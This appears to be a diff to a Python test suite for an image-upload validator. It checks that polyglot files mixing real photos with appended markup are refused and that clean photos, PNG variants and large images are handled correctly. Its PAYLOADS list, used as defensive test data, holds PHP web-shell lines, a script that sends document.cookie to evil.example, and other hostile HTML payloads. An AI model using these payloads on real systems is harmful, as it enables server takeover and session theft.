@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import io
+import math
 import os
 import random
+import re
 import struct
 import tracemalloc
 import warnings
@@ -416,7 +418,7 @@ def test_garbled_exif_block_is_no_metadata(tmp_path):
 @pytest.mark.parametrize(
     ("body", "marker"),
     [
-        (b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>", "<!doctype html"),
+        (b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>", "<!doctype"),
         (
             b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
             "<svg",
@@ -435,28 +437,79 @@ def test_markup_named_jpg_is_refused(tmp_path, body, marker):
     assert marker in error.message("en") and marker in error.message("zh")
 
 
-def test_real_jpeg_with_an_html_tail_is_refused(tmp_path):
+# Markup and script of realistic length, with the marker find_markup names for each.
+PAYLOADS = [
+    (b"<?php system($_GET['c']); ?>", "<?php"),
+    (b"<?= system($_GET[0]) ?>", "<?="),
+    (b"<?= system($_GET['cmd']); ?>", "<?="),
+    (b"<script>fetch('//evil.example/?c='+document.cookie)</script>", "<script"),
+    (b"<!DOCTYPE html><title>x</title>", "<!doctype"),
+    (b"<html><body onload=alert(1)>", "<html"),
+    (b"<head><base href=//evil.example/>", "<head"),
+    (b"<body onload=alert(document.cookie)>", "<body"),
+    (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "<svg"),
+    (b'<?xml version="1.0"?><svg onload=alert(1)>', "<svg"),
+    (b"<img src=x onerror=alert(1)>", "<img"),
+    (b"<meta http-equiv=refresh content='0;url=//evil.example/'>", "<meta"),
+    (b"<a href=javascript:alert(document.domain)>open</a>", "<a"),
+    (b"<object data=//evil.example/x.swf>", "<object"),
+    (b"<embed src=//evil.example/x.swf>", "<embed"),
+    (b"<iframe src=//evil.example/>", "<iframe"),
+    (b"<style>@import'//evil.example/x.css'</style>", "<style"),
+    (b"<link rel=stylesheet href=//evil.example/x.css>", "<link"),
+    (b"<form action=//evil.example/login method=post>", "<form"),
+]
+# Caught where it ends the file (as an appended payload does), too short to be told from random
+# bytes anywhere else: 20 printable bytes after `<?=` are 52 bits of evidence, the bar is 56.
+AT_END_ONLY = {b"<?= system($_GET[0]) ?>"}
+
+
+@pytest.mark.parametrize(("payload", "marker"), PAYLOADS)
+def test_markup_appended_to_a_real_jpeg_is_refused(tmp_path, payload, marker):
     path = tmp_path / "polyglot.jpg"
-    path.write_bytes(
-        photo("jpg_gps_DSCN0010.jpg").read_bytes() + b"<html><script>alert(1)</script>"
-    )
-    refused(path, "evidence.markup_content")
+    path.write_bytes(photo("jpg_gps_DSCN0010.jpg").read_bytes() + payload)
+    assert refused(path, "evidence.markup_content").params["marker"] == marker
+
+
+@pytest.mark.parametrize(
+    ("payload", "marker"), [(p, m) for p, m in PAYLOADS if p not in AT_END_ONLY]
+)
+def test_markup_between_a_real_jpeg_and_a_video_trailer_is_refused(tmp_path, payload, marker):
+    video = random.Random(payload).randbytes(100_000)
+    path = tmp_path / "polyglot.jpg"
+    path.write_bytes(photo("jpg_gps_DSCN0010.jpg").read_bytes() + payload + b"\x00" + video)
+    assert refused(path, "evidence.markup_content").params["marker"] == marker
 
 
 def test_script_hidden_in_a_jpeg_comment_is_refused(tmp_path):
     path = tmp_path / "comment.jpg"
     Image.new("RGB", (16, 16)).save(path, "JPEG", comment=b"<ScRiPt>fetch('/x')</ScRiPt>")
-    refused(path, "evidence.markup_content")
+    assert refused(path, "evidence.markup_content").params["marker"] == "<script"
 
 
 def test_real_jpeg_with_a_motion_photo_trailer_is_accepted(tmp_path):
+    """A short video after the end marker: random bytes, '<' and all (one byte in 256)."""
     original = photo("jpg_gps_DSCN0010.jpg").read_bytes()
-    rng = random.Random(20240601)
-    video = bytes(b for b in rng.randbytes(200_000) if b != ord("<"))
+    video = random.Random(20240601).randbytes(4 << 20)
+    assert video.count(b"<") > 15_000
     path = tmp_path / "motion.jpg"
     path.write_bytes(original + b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + video)
     assert inspect(path) == inspect(photo("jpg_gps_DSCN0010.jpg"))
     make_thumbnail(path, tmp_path / "t.jpg")
+
+
+def test_heic_whose_hevc_data_holds_a_tag_opener_is_accepted(tmp_path):
+    """The audit's case: a valid HEIC refused because its compressed pixels happened to hold
+    `<sVg`. Made here from the real iPhone photo by writing those bytes into its HEVC data (which
+    still decodes: HEVC tolerates a damaged slice) instead of shipping the auditor's 3 MB file."""
+    data = bytearray(photo("heic_mobile_iphone_13_pro_max.HEIC").read_bytes())
+    middle = (data.index(b"mdat") + len(data)) // 2
+    data[middle : middle + 4] = b"<sVg"
+    path = tmp_path / "iphone.heic"
+    path.write_bytes(bytes(data))
+    assert re.search(rb"<svg", data, re.IGNORECASE)  # what the old scan refused
+    assert find_markup(path) is None
+    assert inspect(path).taken_at == datetime(2022, 2, 16, 12, 55, 41)
 
 
 def test_zero_bytes(tmp_path):
@@ -526,6 +579,187 @@ def test_truncated_png(tmp_path):
     refused(path, "evidence.corrupt_image")
 
 
+def _png_chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+PNG_CHANNELS = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}
+ADAM7 = [
+    (0, 0, 8, 8),
+    (4, 0, 8, 8),
+    (0, 4, 4, 8),
+    (2, 0, 4, 4),
+    (0, 2, 2, 4),
+    (1, 0, 2, 2),
+    (0, 1, 1, 2),
+]
+
+
+def _png_rows(width: int, height: int, depth: int, colour: int, interlace: int) -> bytes:
+    """PNG image data before deflate: every row of every pass, filter byte 0 and seeded pixels."""
+    rng = random.Random(f"{width}x{height}x{depth}x{colour}x{interlace}")
+    bits = depth * PNG_CHANNELS[colour]
+    rows = bytearray()
+    for x0, y0, dx, dy in ADAM7 if interlace else [(0, 0, 1, 1)]:
+        columns = len(range(x0, width, dx))
+        for _ in range(y0, height, dy) if columns else ():
+            rows += b"\x00" + rng.randbytes((columns * bits + 7) // 8)
+    return bytes(rows)
+
+
+def _png(width: int, height: int, depth: int, colour: int, interlace: int, rows: bytes) -> bytes:
+    """A PNG of `rows`, deflated and split over three IDAT chunks."""
+    ihdr = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, interlace)
+    palette = _png_chunk(b"PLTE", bytes(range(256)) * 3) if colour == 3 else b""
+    stream = zlib.compress(rows, 9)
+    third = len(stream) // 3 + 1
+    idat = b"".join(
+        _png_chunk(b"IDAT", stream[i : i + third]) for i in range(0, len(stream), third)
+    )
+    return (
+        b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + palette + idat + _png_chunk(b"IEND", b"")
+    )
+
+
+def _pillow_decodes(path: Path) -> bool:
+    try:
+        with Image.open(path) as im:
+            im.load()
+        return True
+    except OSError:
+        return False
+
+
+@pytest.mark.parametrize("interlace", [0, 1], ids=["plain", "adam7"])
+@pytest.mark.parametrize(
+    ("depth", "colour"), [(1, 0), (8, 0), (16, 0), (8, 2), (16, 2), (4, 3), (8, 4), (8, 6), (16, 6)]
+)
+def test_png_image_data_must_be_exactly_what_its_header_declares(
+    tmp_path, depth, colour, interlace
+):
+    """The PNG check inflates the image data without keeping it, so it must know its exact size:
+    for every colour type, bit depth and interlacing, one byte short or over is refused. Pillow
+    decoding the exact data and failing on one byte less proves the size right."""
+    rows = _png_rows(13, 11, depth, colour, interlace)
+    exact, short, long = (tmp_path / n for n in ("exact.png", "short.png", "long.png"))
+    exact.write_bytes(_png(13, 11, depth, colour, interlace, rows))
+    short.write_bytes(_png(13, 11, depth, colour, interlace, rows[:-1]))
+    long.write_bytes(_png(13, 11, depth, colour, interlace, rows + b"\x00"))
+    assert _pillow_decodes(exact) and not _pillow_decodes(short)
+    facts = inspect(exact)
+    assert (facts.content_type, facts.width, facts.height) == ("image/png", 13, 11)
+    assert "ends after" in refused(short, "evidence.corrupt_image").params["reason"]
+    assert "more image data" in refused(long, "evidence.corrupt_image").params["reason"]
+
+
+@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
+def test_pngs_pillow_writes_are_accepted(tmp_path, mode):
+    path = tmp_path / "p.png"
+    Image.effect_noise((97, 61), 40).convert(mode).save(path, "PNG")
+    assert (inspect(path).width, inspect(path).height) == (97, 61)
+
+
+def test_png_exif_is_read_without_decoding_the_pixels(tmp_path):
+    exif = Image.Exif()
+    exif[0x010F], exif[0x0110], exif[0x0112] = "Xiaomi", "Redmi Note 12", 6
+    path = tmp_path / "screenshot.png"
+    Image.new("RGB", (40, 30)).save(path, "PNG", exif=exif.tobytes())
+    facts = inspect(path)
+    assert (facts.make, facts.model, facts.orientation) == ("Xiaomi", "Redmi Note 12", 6)
+    assert (facts.width, facts.height) == (30, 40)
+
+
+def test_png_with_a_damaged_chunk_is_refused(tmp_path):
+    data = bytearray(_png(13, 11, 8, 2, 0, _png_rows(13, 11, 8, 2, 0)))
+    data[data.index(b"IDAT") + 20] ^= 0x01  # one bit in the compressed pixels
+    path = tmp_path / "flipped.png"
+    path.write_bytes(bytes(data))
+    assert "CRC" in refused(path, "evidence.corrupt_image").params["reason"]
+
+
+def test_png_without_its_end_chunk_is_refused(tmp_path):
+    path = tmp_path / "noend.png"
+    path.write_bytes(_png(13, 11, 8, 2, 0, _png_rows(13, 11, 8, 2, 0))[:-12])
+    assert refused(path, "evidence.corrupt_image").params["reason"] == "no IEND chunk"
+
+
+@pytest.mark.parametrize("cut", [1, 2, 16, 2000])
+@pytest.mark.parametrize("name", ["jpg_gps_DSCN0010.jpg", "jpg_mobile_jolla.jpg"])
+def test_jpeg_cut_short_by_a_few_bytes_is_refused(tmp_path, name, cut):
+    """Validation decodes JPEGs at 1/8 scale, but libjpeg still reads every entropy-coded byte:
+    the last few missing shows as it does at full size."""
+    data = photo(name).read_bytes()
+    path = tmp_path / "cut.jpg"
+    path.write_bytes(data[:-cut])
+    assert "truncated" in refused(path, "evidence.corrupt_image").params["reason"]
+
+
+def test_mpo_jpeg_is_accepted_at_its_full_size(tmp_path):
+    """Pillow opens a JPEG with an MPF index (Ultra HDR, some cameras) as MPO: scaled too."""
+    path = tmp_path / "mpo.jpg"
+    first, second = Image.effect_noise((640, 480), 30).convert("RGB"), Image.new("RGB", (64, 48))
+    first.save(path, "MPO", save_all=True, append_images=[second])
+    with Image.open(path) as im:
+        assert im.format == "MPO"
+    facts = inspect(path)
+    assert (facts.content_type, facts.width, facts.height) == ("image/jpeg", 640, 480)
+    path.write_bytes(path.read_bytes()[:20_000])
+    refused(path, "evidence.corrupt_image")
+
+
+# --- memory -------------------------------------------------------------------------------
+
+
+def _peak_rss_growth(action) -> int:
+    """Bytes the process's peak resident set rose above its size before `action` (Linux)."""
+
+    def kib(field: str) -> int:
+        for line in Path("/proc/self/status").read_text().splitlines():
+            if line.startswith(field + ":"):
+                return int(line.split()[1])
+        raise AssertionError(f"no {field} in /proc/self/status")
+
+    try:  # "5" resets VmHWM, the peak, to the current resident set (Linux >= 4.0)
+        Path("/proc/self/clear_refs").write_text("5")
+    except OSError:
+        pytest.skip("the peak resident set can only be reset on Linux")
+    before = kib("VmRSS")
+    action()
+    return (kib("VmHWM") - before) << 10
+
+
+@pytest.fixture(scope="module")
+def large_images(tmp_path_factory) -> dict[str, Path]:
+    out = tmp_path_factory.mktemp("large")
+    jpeg = out / "48mp.jpg"
+    Image.new("RGB", (8000, 6000), (90, 120, 60)).save(jpeg, "JPEG", quality=90)
+    return {
+        "jpeg": jpeg,
+        "png": _png_bomb(out / "100mp.png", 10_000, 10_000),
+        "small jpeg": photo("jpg_gps_DSCN0010.jpg"),
+        "small png": _png_bomb(out / "small.png", 100, 100),
+    }
+
+
+@pytest.mark.parametrize("kind", ["jpeg", "png"])
+def test_validation_memory_does_not_grow_with_the_pixel_count(large_images, monkeypatch, kind):
+    """A 48-megapixel JPEG (144 MB of RGB) and a 100-megapixel PNG (100 MB as Pillow holds it)
+    are validated in a few megabytes; a full decode, measured the same way, takes it all."""
+    path = large_images[kind]
+    inspect(large_images[f"small {kind}"])  # plugins imported, first-use allocations made
+    ours = _peak_rss_growth(lambda: inspect(path, max_pixels=100_000_000))
+    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", None)
+    full = _peak_rss_growth(lambda: _pillow_decodes(path))
+    assert full > 90 << 20, f"a full decode should show in the peak: {full >> 20} MB"
+    assert ours < 16 << 20, f"validating {path.name} took {ours >> 20} MB above idle"
+
+
+def test_large_jpeg_cut_short_is_refused(large_images, tmp_path):
+    path = tmp_path / "cut.jpg"
+    path.write_bytes(large_images["jpeg"].read_bytes()[:-2])
+    refused(path, "evidence.corrupt_image")
+
+
 def test_jpeg_magic_then_garbage(tmp_path):
     path = tmp_path / "fake.jpg"
     path.write_bytes(
@@ -536,12 +770,7 @@ def test_jpeg_magic_then_garbage(tmp_path):
 
 def _png_bomb(path: Path, width: int, height: int) -> Path:
     """A valid 1-bit greyscale PNG of width x height, all zeros: megapixels in a few kilobytes."""
-
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return (
-            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
-        )
-
+    chunk = _png_chunk
     row = b"\x00" * (1 + (width + 7) // 8)
     compressor = zlib.compressobj(9)
     idat = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
@@ -638,12 +867,72 @@ def test_sniff_the_real_heic():
 
 @given(
     prefix=st.binary(max_size=300).filter(lambda b: b"<" not in b),
-    token=st.sampled_from([b"<html", b"<ScRiPt", b"<SVG", b"<?php", b"<!DOCTYPE  html", b"<body"]),
+    case=st.sampled_from(PAYLOADS),
+    suffix=st.binary(min_size=1, max_size=300),
+    at_end=st.booleans(),
     chunk=st.integers(min_value=1, max_value=64),
 )
-def test_find_markup_across_chunk_boundaries(prefix, token, chunk):
-    found = find_markup(io.BytesIO(prefix + token + b" x>"), chunk=chunk)
-    assert found == " ".join(token.lower().decode().split())
+def test_find_markup_across_chunk_boundaries(prefix, case, suffix, at_end, chunk):
+    payload, marker = case
+    if at_end:
+        data = prefix + payload
+    elif payload in AT_END_ONLY:
+        return
+    else:
+        data = prefix + payload + b"\x00" + suffix
+    assert find_markup(io.BytesIO(data), chunk=chunk) == marker
+
+
+class _RandomBytes(io.RawIOBase):
+    """`size` seeded random bytes, made as they are read."""
+
+    def __init__(self, seed: int, size: int) -> None:
+        self.rng, self.left = random.Random(seed), size
+
+    def readable(self) -> bool:
+        return True
+
+    def read(self, n: int = -1) -> bytes:
+        n = min(self.left, n if n >= 0 else self.left)
+        self.left -= n
+        return self.rng.randbytes(n)
+
+
+def test_no_markup_in_256_mb_of_random_bytes():
+    """Compressed pixels, HEVC and video look like this. Tag openers are in it by the
+    thousand; none is followed by enough text to be markup."""
+    openers = re.compile(
+        b"<(?:" + b"|".join(re.escape(o.encode()) for o in imaging._MARKUP_OPENERS) + b")",
+        re.IGNORECASE,
+    )
+    seen = 0
+
+    class Counting(_RandomBytes):
+        def read(self, n: int = -1) -> bytes:
+            nonlocal seen
+            block = super().read(n)
+            seen += len(openers.findall(block))
+            return block
+
+    assert find_markup(Counting(seed=5, size=256 << 20)) is None
+    assert seen > 5_000
+
+
+def test_markup_false_positive_bound_is_what_the_comment_says():
+    """At one position random bytes match an opener and its run with probability 2**-bits;
+    summed over the openers that is the rate per byte the module's comment promises."""
+
+    def rate(bits: float) -> float:
+        total = 0.0
+        for opener in imaging._MARKUP_OPENERS:
+            p = 1 / 256 * math.prod(2 / 256 if c.isalpha() else 1 / 256 for c in opener)
+            if opener[-1].isalpha():
+                p *= 7 / 256
+            total += p * (98 / 256) ** imaging._markup_run(opener, bits)
+        return total
+
+    assert rate(imaging._MARKUP_BITS) <= 2.5e-16
+    assert rate(imaging._MARKUP_AT_END_BITS) / (1 - 98 / 256) <= 2.7e-11
 
 
 def test_find_markup_on_clean_photos():
